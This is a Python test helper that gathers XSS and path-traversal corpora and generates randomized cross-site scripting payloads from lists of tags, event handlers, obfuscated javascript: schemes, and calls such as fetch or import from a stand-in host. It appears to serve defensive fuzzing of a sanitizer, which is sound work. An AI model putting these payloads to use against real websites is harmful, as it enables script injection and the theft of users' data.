"""Texts that are built to run: those of the corpora, and others made at run time from the parts of such texts."""

from __future__ import annotations

import random

from tests.corpora import corpus_lines, naughty_strings

BREAKS = (
    "",
    "",
    '"',
    "'",
    '">',
    "'>",
    "`",
    "-->",
    "*/",
    "</title>",
    "</script>",
    "</textarea>",
    "]]>",
    "{{",
    "\\",
    "%0a",
    "</p>",
    "](x) ",
)
TAGS = (
    "img",
    "svg",
    "script",
    "iframe",
    "body",
    "video",
    "object",
    "a",
    "math",
    "details",
    "marquee",
    "x",
    "input",
    "form",
    "style",
    "base",
    "meta",
    "embed",
)
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "OnPointerEnter")
CALLS = (
    "alert({n})",
    "prompt({n})",
    "confirm`{n}`",
    "(alert)({n})",
    "eval('ale'+'rt({n})')",
    "import('//h.example/{n}')",
    "fetch('//h.example/{n}')",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    " javascript:",
    "data:text/html,",
    "vbscript:",
    "//h.example/",
    "&#106;avascript:",
    "javascript&colon;",
)
MARKDOWN = (
    "[x]({url})",
    "![x]({url})",
    "<{url}>",
    "[x]: {url}",
    "[x](<{url}> 't')",
    "`{tag}`",
    "# {tag}",
    "| {tag} |",
    "~~{tag}~~",
    "[^1]: {tag}",
)


def generated_payloads(count: int, seed: int) -> list[str]:
    """So many payloads; the same ones for the same seed."""
    chance = random.Random(seed)
    return [_payload(chance, number) for number in range(count)]


def _payload(chance: random.Random, number: int) -> str:
    call = chance.choice(CALLS).format(n=number)
    url = chance.choice(SCHEMES) + call
    tag = chance.choice(
        [
            f"<{chance.choice(TAGS)} {chance.choice(HANDLERS)}={call}>",
            f"<{chance.choice(TAGS)}/{chance.choice(HANDLERS)}={call} src=x autofocus>",
            f"<{chance.choice(TAGS)} href={url} src={url} data={url} xlink:href={url}>",
            f"<script>{call}</script>",
            f"<svg><animate {chance.choice(HANDLERS)}={call} attributeName=x></svg>",
            f"<style>*{{background:url({url})}}</style>",
        ]
    )
    form = chance.choice([tag, tag, chance.choice(MARKDOWN).format(url=url, tag=tag)])
    return " ".join((chance.choice(BREAKS) + form).split())


def payloads() -> list[str]:
    """Those of the three corpora, each once and on one line."""
    texts = (*corpus_lines("xss-payloads.txt"), *corpus_lines("path-traversal.txt"), *naughty_strings())
    return list(dict.fromkeys(line for text in texts if (line := " ".join(text.split()))))
